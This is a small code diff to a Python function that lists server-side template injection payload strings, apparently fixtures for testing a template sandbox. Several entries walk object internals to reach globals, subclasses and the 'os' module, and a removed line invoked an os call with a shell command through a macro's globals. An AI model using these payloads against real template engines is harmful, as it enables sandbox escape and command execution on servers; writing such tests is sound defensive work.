@@ -98,7 +98,7 @@ def template_payloads(m: Path) -> dict[str, str]:
         "a format string": "'{0.__class__.__init__.__globals__}'.format(item)",
         "the attr filter": "(item|attr('__class__')|attr('__init__')|attr('__globals__'))['os']",
         "a tuple's class": "().__class__.__base__.__subclasses__()",
-        "a macro's globals": f"caller.__globals__['os'].{sh}",
+        "a block reference": "self.body._context.parent",
     }
 
 
